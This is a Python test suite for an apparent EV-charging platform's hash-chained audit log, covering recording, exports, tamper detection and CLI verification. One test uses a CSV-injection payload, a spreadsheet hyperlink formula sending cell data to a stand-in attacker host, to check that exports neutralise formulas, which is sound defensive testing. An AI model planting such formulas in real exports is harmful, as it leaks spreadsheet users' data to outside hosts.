"""The audit log end to end: what gets recorded, filters and exports, and tampering in the
database (edit, delete, reorder) detected at the right entry by the API and by the CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest
import structlog.testing
from sqlalchemy import delete, insert, select, update
from typer.testing import CliRunner

from evota.audit.log import Actor
from evota.cli import app as cli_app
from evota.runtime import Runtime
from evota.store.models import AuditCharger, AuditEntry, AuditHead
from tests.conftest import TOKEN, api_client, session_for, start_runtime

runner = CliRunner()


async def _some_history(rt: Runtime, n: int = 6) -> None:
    async with api_client(rt) as admin:
        for i in range(n):
            res = await admin.post(
                "/api/v1/sites",
                json={"id": f"s{i}", "name": f"Site {i}", "timezone": "UTC"},
                headers={"X-Request-ID": f"req-{i}"},
            )
            assert res.status_code == 201
            assert res.headers["x-request-id"] == f"req-{i}"
        res = await admin.post("/api/v1/sites", json={"id": "bad id!", "name": "x"})
        assert res.status_code == 422


async def test_an_answered_call_is_already_in_the_log(tmp_path: Path, database_url: str) -> None:
    """The middleware commits the entry before the answer's last byte: a client that has its
    answer (and anyone it tells) reads the entry straight from the database, no waiting."""
    rt = await start_runtime(tmp_path, database_url)
    try:
        async with api_client(rt) as admin:
            for i in range(5):
                res = await admin.post(
                    "/api/v1/sites", json={"id": f"n{i}", "name": f"N {i}", "timezone": "UTC"}
                )
                assert res.status_code == 201
                async with rt.engine.connect() as conn:
                    stored = (
                        await conn.execute(
                            select(AuditEntry.outcome).where(AuditEntry.target == f"n{i}")
                        )
                    ).all()
                assert [row.outcome for row in stored] == ["ok"], i
    finally:
        await rt.stop()


async def _charger_entry(rt: Runtime) -> int:
    """An entry linked to two chargers (as a bulk command's), then two more after it."""
    olga = Actor("olga", ("auditor",))  # no alert rule looks at these entries
    seq = await rt.audit.record(olga, "test.linked", "ok", chargers=["CP-1", "CP-2"])
    for i in range(2):
        await rt.audit.record(olga, "test.other", "ok", target=f"t{i}")
    return seq


async def test_state_changing_calls_are_recorded_with_who_what_and_outcome(
    tmp_path: Path, database_url: str
) -> None:
    rt = await start_runtime(tmp_path, database_url)
    try:
        await _some_history(rt)
        auditor = await session_for(rt, "audrey", ["auditor"])
        async with api_client(rt, auditor) as api:
            page = (await api.get("/api/v1/audit", params={"action": "api"})).json()
            assert page["total"] == 7
            newest = page["items"][0]
            assert newest["actor"] == "bootstrap-admin"
            assert newest["outcome"] == "http_422"
            first = page["items"][-1]
            assert first["action"] == "api.create_site" and first["outcome"] == "ok"
            assert first["request_id"] == "req-0"
            assert first["detail"]["path"] == "/api/v1/sites"
            verified = (await api.get("/api/v1/audit/verify")).json()
            assert verified == {
                "ok": True,
                "entries": verified["entries"],
                "broken_at": None,
                "reason": None,
                "detail": None,
                "head_checked": True,
            }
            assert verified["entries"] >= 7
            # reads are not audited, and an anonymous failure is
            async with api_client(rt, None) as anon:
                assert (await anon.post("/api/v1/sites", json={})).status_code == 401
            await rt.audit.drain()
            page = (await api.get("/api/v1/audit", params={"actor": "anonymous"})).json()
            assert page["items"][0]["outcome"] == "http_401"
    finally:
        await rt.stop()


async def test_export_jsonl_and_csv_reverify(tmp_path: Path, sqlite_url: str) -> None:
    from evota.audit import chain

    rt = await start_runtime(tmp_path, sqlite_url)
    try:
        await _some_history(rt, 3)
        async with api_client(rt) as admin:
            jsonl = (await admin.get("/api/v1/audit/export", params={"format": "jsonl"})).text
            rows = [json.loads(line) for line in jsonl.splitlines()]
            entries = [
                chain.Entry(
                    **{k: v for k, v in r.items() if k in chain.Entry.__dataclass_fields__}
                    | {
                        "at": __import__("datetime").datetime.fromisoformat(r["at"]),
                        "chargers": tuple(r["chargers"]),
                    }
                )
                for r in rows
            ]
            assert chain.verify(entries) == (len(rows), None)  # an export can be re-verified
            text = (await admin.get("/api/v1/audit/export", params={"format": "csv"})).text
            table = list(csv.DictReader(io.StringIO(text)))
            assert [int(r["seq"]) for r in table] == [r["seq"] for r in rows]
            bad = await admin.get("/api/v1/audit/export", params={"format": "xml"})
            assert bad.status_code == 422 and bad.json()["field"] == "format"
    finally:
        await rt.stop()


async def _tamper(rt: Runtime, how: str) -> int:
    """Change the database behind evota's back; returns the seq the break should name."""
    linked = await _charger_entry(rt)
    await rt.audit.drain()
    async with rt.engine.begin() as conn:
        last = (await conn.execute(select(AuditEntry.seq).order_by(AuditEntry.seq.desc()))).first()
        assert last is not None
        newest = last.seq
        if how == "truncate":  # the newest three entries, head row untouched
            await conn.execute(delete(AuditEntry).where(AuditEntry.seq > newest - 3))
            return newest - 2
        if how == "truncate-then-append":  # and evota keeps appending afterwards
            await conn.execute(delete(AuditEntry).where(AuditEntry.seq > newest - 3))
    if how == "truncate-then-append":
        for i in range(4):  # past the head's number: the head must not follow
            await rt.audit.record(Actor("olga", ("auditor",)), "test.after", "ok", target=str(i))
        return newest
    async with rt.engine.begin() as conn:
        if how == "forge-head":  # truncate, and rewrite the head without the key
            await conn.execute(delete(AuditEntry).where(AuditEntry.seq > newest - 3))
            row = (
                await conn.execute(select(AuditEntry.hash).where(AuditEntry.seq == newest - 3))
            ).one()
            fake = __import__("hashlib").sha256(row.hash.encode()).hexdigest()
            await conn.execute(update(AuditHead).values(seq=newest - 3, hash=row.hash, mac=fake))
            return newest - 3
        if how == "delete-head":  # truncate and delete the head row
            await conn.execute(delete(AuditEntry).where(AuditEntry.seq > newest - 3))
            await conn.execute(delete(AuditHead))
            return newest - 2
        if how == "unlink":  # hide an entry from per-charger queries
            entry_id = (
                await conn.execute(select(AuditEntry.id).where(AuditEntry.seq == linked))
            ).scalar_one()
            await conn.execute(delete(AuditCharger).where(AuditCharger.entry_id == entry_id))
            return linked
        if how == "unlink-one":
            entry_id = (
                await conn.execute(select(AuditEntry.id).where(AuditEntry.seq == linked))
            ).scalar_one()
            await conn.execute(
                delete(AuditCharger).where(
                    AuditCharger.entry_id == entry_id, AuditCharger.charger_id == "CP-2"
                )
            )
            return linked
        if how == "unlink-column":  # remove the links and the charger ids stored in the row
            entry_id = (
                await conn.execute(select(AuditEntry.id).where(AuditEntry.seq == linked))
            ).scalar_one()
            await conn.execute(delete(AuditCharger).where(AuditCharger.entry_id == entry_id))
            await conn.execute(
                update(AuditEntry).where(AuditEntry.id == entry_id).values(chargers=[])
            )
            return linked
        if how == "edit":
            await conn.execute(
                update(AuditEntry).where(AuditEntry.seq == 3).values(actor="someone-else")
            )
            return 3
        if how == "edit-detail":
            await conn.execute(
                update(AuditEntry).where(AuditEntry.seq == 4).values(detail={"status": 200})
            )
            return 4
        if how == "delete":
            await conn.execute(delete(AuditEntry).where(AuditEntry.seq == 2))
            return 2
        if how == "reorder":  # swap the positions of entries 3 and 4
            await conn.execute(update(AuditEntry).where(AuditEntry.seq == 3).values(seq=-3))
            await conn.execute(update(AuditEntry).where(AuditEntry.seq == 4).values(seq=3))
            await conn.execute(update(AuditEntry).where(AuditEntry.seq == -3).values(seq=4))
            return 3  # the first entry not where the chain expects it
    raise AssertionError(how)


_SAYS = {
    "truncate": "audit log truncated after entry {last}: head says {head}",
    "delete-head": "the sealed head is missing",
    "truncate-then-append": "entry {n} does not match the sealed head",
    "forge-head": "fails its MAC",
    "unlink": "entry {n}: charger links changed",
    "unlink-one": "entry {n}: charger links changed",
}


@pytest.mark.parametrize(
    ("how", "reason"),
    [
        ("edit", "edited"),
        ("edit-detail", "edited"),
        ("delete", "missing"),
        ("reorder", "reordered"),
        ("truncate", "truncated"),
        ("truncate-then-append", "head_mismatch"),
        ("forge-head", "head_forged"),
        ("delete-head", "head_missing"),
        ("unlink", "unlinked"),
        ("unlink-one", "unlinked"),
        ("unlink-column", "edited"),
    ],
)
async def test_tampering_is_detected_at_the_right_entry(
    tmp_path: Path, database_url: str, how: str, reason: str
) -> None:
    rt = await start_runtime(tmp_path, database_url)
    try:
        await _some_history(rt)
        async with api_client(rt) as admin:
            assert (await admin.get("/api/v1/audit/verify")).json()["ok"] is True
            expected = await _tamper(rt, how)
            res = (await admin.get("/api/v1/audit/verify")).json()
        assert res["ok"] is False
        assert res["broken_at"] == expected, res
        assert res["reason"] == reason
        said = _SAYS.get(how, "").format(n=expected, last=expected - 1, head=expected + 2)
        assert said in res["detail"]
        # the CLI, straight against the database (no server trusted), the key from --data-dir
        args = ["audit", "verify", "--database-url", rt.settings.resolved_database_url()]
        args += ["--data-dir", str(rt.settings.data_dir)]
        result = await asyncio.to_thread(runner.invoke, cli_app, args)
        assert result.exit_code == 1
        if how in _SAYS:
            assert said in result.output, result.output
        else:
            assert f"broken at entry {expected} ({reason})" in result.output
        # and through the API
        url = f"http://127.0.0.1:{rt.http_port}"
        args = ["audit", "verify", "--url", url, "--token", TOKEN]
        result = await asyncio.to_thread(runner.invoke, cli_app, args)
        assert result.exit_code == 1
        assert (said if how in _SAYS else f"entry {expected}") in result.output
    finally:
        await rt.stop()


async def test_cli_verify_list_and_export(tmp_path: Path) -> None:
    # the database where `evota serve --data-dir` keeps it, so --data-dir finds it
    (tmp_path / "data").mkdir()
    rt = await start_runtime(tmp_path, f"sqlite+aiosqlite:///{tmp_path / 'data' / 'evota.db'}")
    try:
        await _some_history(rt, 2)
        url = f"http://127.0.0.1:{rt.http_port}"
        args = ["audit", "verify", "--data-dir", str(rt.settings.data_dir)]
        ok = await asyncio.to_thread(runner.invoke, cli_app, args)
        assert ok.exit_code == 0 and "audit log intact" in ok.output, ok.output
        listed = await asyncio.to_thread(
            runner.invoke,
            cli_app,
            ["audit", "list", "--url", url, "--token", TOKEN, "--json", "--limit", "5"],
        )
        assert listed.exit_code == 0
        assert json.loads(listed.output)["items"][0]["action"].startswith("api.")
        out = tmp_path / "audit.csv"
        exported = await asyncio.to_thread(
            runner.invoke,
            cli_app,
            ["audit", "export", "--url", url, "--token", TOKEN, "--format", "csv", "-o", str(out)],
        )
        assert exported.exit_code == 0 and out.read_text().startswith("seq,at,actor")
        args = ["audit", "verify", "--data-dir", str(tmp_path / "nowhere")]
        bad = await asyncio.to_thread(runner.invoke, cli_app, args)
        assert bad.exit_code == 1 and "no evota database" in bad.output
    finally:
        await rt.stop()


async def test_appends_from_many_tasks_keep_one_chain(tmp_path: Path, database_url: str) -> None:
    """Concurrent callers are group-committed: one chain, every entry linked to its own
    chargers, each caller told its own sequence number."""
    from evota.audit.log import Actor
    from evota.store.models import AuditCharger

    rt = await start_runtime(tmp_path, database_url)
    try:
        before, _ = await rt.audit.verify()
        seqs = await asyncio.gather(
            *(
                rt.audit.record(
                    Actor(f"a{i}", ("operator",)), "test.x", "ok", chargers=[f"C{i}", f"D{i}"]
                )
                for i in range(120)
            )
        )
        assert sorted(seqs) == list(range(before + 1, before + 121))
        count, broken = await rt.audit.verify()
        assert broken is None and count == before + 120
        async with rt.engine.connect() as conn:
            rows = (
                await conn.execute(
                    select(AuditEntry.seq, AuditEntry.actor, AuditCharger.charger_id).join(
                        AuditCharger, AuditCharger.entry_id == AuditEntry.id
                    )
                )
            ).all()
        links: dict[str, set[str]] = {}
        for row in rows:
            links.setdefault(row.actor, set()).add(row.charger_id)
        assert links == {f"a{i}": {f"C{i}", f"D{i}"} for i in range(120)}
        by_actor = {row.actor: row.seq for row in rows}
        assert [by_actor[f"a{i}"] for i in range(120)] == seqs  # in call order
    finally:
        await rt.stop()


async def test_rollback_of_the_whole_database_is_caught_by_the_anchor(
    tmp_path: Path, database_url: str
) -> None:
    """Someone restores an older head row together with the truncation: the MAC is valid,
    but the head published outside the database (the anchor file) is further on."""
    rt = await start_runtime(tmp_path, database_url)
    try:
        await _some_history(rt, 2)
        async with rt.engine.connect() as conn:
            old = (await conn.execute(select(AuditHead))).one()
        await _charger_entry(rt)
        with structlog.testing.capture_logs() as logs:
            rt.audit.anchor()
        published = [e for e in logs if e["event"] == "audit head"]
        assert published and published[0]["seq"] == old.seq + 3  # the log stream anchor
        data = rt.settings.data_dir
        for name in ("audit-head.key", "audit-anchors.jsonl"):
            assert (data / name).stat().st_mode & 0o777 == 0o600, name
        async with rt.engine.begin() as conn:
            await conn.execute(delete(AuditEntry).where(AuditEntry.seq > old.seq))
            await conn.execute(update(AuditHead).values(seq=old.seq, hash=old.hash, mac=old.mac))
        async with api_client(rt) as admin:
            res = (await admin.get("/api/v1/audit/verify")).json()
        assert res["ok"] is False and res["reason"] == "truncated", res
        assert f"truncated after entry {old.seq}: anchor says {old.seq + 3}" in res["detail"]
    finally:
        await rt.stop()


async def test_logs_sealed_before_the_upgrade_stay_verifiable(
    tmp_path: Path, database_url: str
) -> None:
    """A database at revision 0006 with version-1 entries (charger ids not hashed): after the
    migration and the first start (the cut-over that seals the head) the old entries still
    verify, new ones are version 2, and unlinking an old entry or truncating is caught."""
    from dataclasses import replace
    from datetime import UTC, datetime

    from alembic import command

    from evota.audit import chain
    from evota.store import db

    engine = db.create_engine(database_url)
    old: list[chain.Entry] = []
    try:
        async with engine.begin() as conn:
            await conn.run_sync(lambda c: command.upgrade(db.alembic_config(c), "0006"))
            previous: chain.Entry | None = None
            for i in range(1, 4):
                draft = chain.Entry(
                    seq=i,
                    at=datetime(2026, 11, 1, 12, i, tzinfo=UTC),
                    actor="olga",
                    role="operator",
                    action="command.reset",
                    outcome="Accepted",
                    detail={"n": i},
                    prev_hash=previous.hash if previous else chain.GENESIS,
                    v=1,
                )
                previous = replace(draft, hash=chain.digest(draft))
                old.append(previous)
            for e in old:
                await conn.execute(
                    insert(AuditEntry),
                    {
                        "id": e.seq,
                        "seq": e.seq,
                        "at": e.at,
                        "actor": e.actor,
                        "role": e.role,
                        "action": e.action,
                        "outcome": e.outcome,
                        "detail": dict(e.detail),
                        "prev_hash": e.prev_hash,
                        "hash": e.hash,
                    },
                )
                await conn.execute(insert(AuditCharger), {"entry_id": e.seq, "charger_id": "CP-9"})
    finally:
        await engine.dispose()
    rt = await start_runtime(tmp_path, database_url)  # migrates to head, seals the head
    try:
        await _some_history(rt, 2)
        count, broken = await rt.audit.verify()
        assert broken is None and count > 3
        async with rt.engine.connect() as conn:
            versions = dict((await conn.execute(select(AuditEntry.seq, AuditEntry.v))).all())
        assert [versions[s] for s in (1, 2, 3)] == [1, 1, 1] and versions[4] == 2
        async with rt.engine.begin() as conn:
            await conn.execute(delete(AuditCharger).where(AuditCharger.entry_id == 2))
        assert (await rt.audit.verify())[1] == chain.Break(2, 1, "unlinked")
    finally:
        await rt.stop()


async def test_csv_export_neutralises_formulas(tmp_path: Path, sqlite_url: str) -> None:
    """CSV injection: a failed login as a formula must not export a cell a spreadsheet runs."""
    from evota.csvcells import safe_cell

    evil = '=hyperlink("http://evil.example/?"&a1,"click")'  # usernames are lower-cased
    rt = await start_runtime(tmp_path, sqlite_url)
    try:
        async with api_client(rt, None) as anon:
            for name in (evil, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"):
                res = await anon.post(
                    "/api/v1/auth/login", json={"username": name, "password": "x" * 12}
                )
                assert res.status_code == 401, res.text
        await rt.audit.drain()
        async with api_client(rt) as admin:
            text = (await admin.get("/api/v1/audit/export", params={"format": "csv"})).text
            jsonl = (await admin.get("/api/v1/audit/export", params={"format": "jsonl"})).text
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + evil in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert evil in [json.loads(line)["actor"] for line in jsonl.splitlines()]  # JSONL: as is
    finally:
        await rt.stop()
    assert [safe_cell(v) for v in ("ok", "=1", 5, -5, None, "a=b")] == [
        "ok",
        "'=1",
        5,
        -5,
        None,
        "a=b",
    ]
